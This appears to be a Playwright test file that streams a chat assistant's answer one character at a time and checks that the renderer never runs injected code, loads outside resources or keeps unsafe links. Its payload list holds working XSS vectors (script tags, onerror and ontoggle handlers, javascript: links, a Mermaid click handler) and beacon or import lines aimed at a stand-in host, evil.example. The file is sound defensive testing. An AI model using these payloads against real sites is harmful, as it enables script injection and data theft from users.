import type { Browser, Page } from 'playwright-core';
import { launch, openWindow } from './support/browser.ts';
import { OWNER } from './support/people.ts';
import { ScriptedAnswer } from './support/scripted.ts';

let browser: Browser;
beforeAll(async () => {
  browser = await launch();
});
afterAll(() => browser?.close());

/** Each would run `owned` in a renderer that trusts it, whole or cut. */
const PAYLOADS = [
  '<script>owned()</script>',
  '<img src=x onerror=owned()>',
  '<svg/onload=owned()><a xlink:href="javascript:owned()">x</a></svg>',
  '<iframe srcdoc="<script>parent.owned()</script>"></iframe>',
  '<a href="javascript:owned()" onmouseover=owned()>a</a><details open ontoggle=owned()>',
  '<style>@import "//evil.example/x.css"</style><base href="//evil.example/">',
  '[a](javascript:owned()) [b](JaVaScRiPt&colon;owned()) [c](data:text/html,<script>owned()</script>)',
  '<javascript:owned()> ![x](javascript:owned()) ![y](https://evil.example/beacon.png?q=secret)',
  '[ref]: javascript:owned()\n\n[d][ref] and [e](vbscript:owned() "t")',
  '`<img src=x onerror=owned()>` $$\\href{javascript:owned()}{x}$$ $$\\htmlData{x=1}{y}$$',
  '```html"onload=owned()\n<script>owned()</script>\n```',
  '| a | b |\n|---|---|\n| <img src=x onerror=owned()> | [x](javascript:owned()) |',
];
const MERMAID =
  '```mermaid\ngraph LR\n  A["<img src=x onerror=owned()>"] --> B\n  click A href "javascript:owned()"\n```\n\nAfter.';

interface Harm {
  owned: number;
  requests: string[];
}

async function guarded(page: Page): Promise<Harm> {
  const harm: Harm = { owned: 0, requests: [] };
  await page.exposeFunction('owned', () => {
    harm.owned += 1;
  });
  page.on('dialog', (dialog) => {
    harm.owned += 1;
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    if (!/^(http|ws)s?:\/\/(localhost|127\.0\.0\.1)|^(data|blob):/.test(request.url()))
      harm.requests.push(request.url());
  });
  return harm;
}

/** Everything in the answer that could act, at the next frame: elements that run or load, handlers, and addresses that are not of the web. */
const dangerous = (page: Page) =>
  page.evaluate(async () => {
    // One frame of the screen for each, so that every prefix is really rendered.
    await new Promise(requestAnimationFrame);
    const answer = document.querySelector('article[data-role=assistant]');
    const found: string[] = [];
    for (const element of answer?.querySelectorAll('*') ?? []) {
      if (/^(script|iframe|object|embed|base|style|link|form|meta)$/i.test(element.tagName))
        found.push(element.tagName);
      for (const { name, value } of element.attributes) {
        if (name.startsWith('on') || name === 'srcdoc') found.push(name);
        const isAddress = /^(href|src|action|formaction|xlink:href)$/.test(name);
        if (isAddress && !/^(https?:|mailto:|data:image\/svg\+xml;charset=utf-8,|#)/.test(value))
          found.push(`${name}=${value}`);
      }
    }
    return found;
  });

/** The answer without what only moves: the fade of new words, and ids that a renderer makes up. */
const shape = (page: Page) =>
  page.evaluate(() => {
    const answer = document.querySelector('article[data-role=assistant]')?.cloneNode(true) as HTMLElement;
    for (const word of answer.querySelectorAll('span[class^=fresh]')) word.replaceWith(...word.childNodes);
    for (const element of answer.querySelectorAll('*')) {
      for (const name of element.getAttributeNames()) {
        if (/^(id|data-state|aria-controls|aria-describedby)/.test(name)) element.removeAttribute(name);
      }
      // Left behind where a formula that was still broken had a colour.
      if (element.getAttribute('style') === '') element.removeAttribute('style');
    }
    answer.normalize();
    return answer.innerHTML;
  });

const settled = async (page: Page) => {
  await page.getByRole('button', { name: 'Copy answer' }).waitFor();
  // What is loaded when it is first needed has come: formulas and colours.
  await page.locator('.katex').first().waitFor();
  await page.locator('figure pre span[style]').first().waitFor();
};

it('HARDENING 22, 23 and 26: is harmless at every cut of every payload, and shows the same at the end as after a reload', async () => {
  const { context, page } = await openWindow(browser, { as: OWNER });
  const harm = await guarded(page);
  const answer = new ScriptedAnswer();
  await answer.openOn(page);
  const text = `${PAYLOADS.join('\n\n')}\n\nThe end.`;
  for (const character of text) {
    answer.write(character);
    expect(await dangerous(page)).toEqual([]);
  }
  answer.end();
  await settled(page);
  for (const link of await page.locator('article[data-role=assistant] a').all()) {
    expect(await link.getAttribute('href')).toMatch(/^https?:/);
    expect(await link.getAttribute('rel')).toContain('noopener');
  }
  await page.getByText('<script>owned()</script>').first().waitFor();
  const streamed = await shape(page);
  await page.reload();
  await settled(page);
  expect(await shape(page)).toBe(streamed);
  expect(harm).toEqual({ owned: 0, requests: [] });
  await context.close();
}, 180_000);

it('HARDENING 22: draws a diagram as a picture that cannot act', async () => {
  const { context, page } = await openWindow(browser, { as: OWNER });
  const harm = await guarded(page);
  const answer = new ScriptedAnswer();
  await answer.openOn(page);
  for (const piece of MERMAID.match(/[\s\S]{1,7}/g) ?? []) {
    answer.write(piece);
    await page.evaluate(() => new Promise(requestAnimationFrame));
  }
  answer.end();
  const picture = page.getByRole('img', { name: /^Diagram/ });
  await picture.or(page.getByText('This diagram has an error in its source.')).first().waitFor();
  expect(await dangerous(page)).toEqual([]);
  expect(harm).toEqual({ owned: 0, requests: [] });
  await context.close();
});
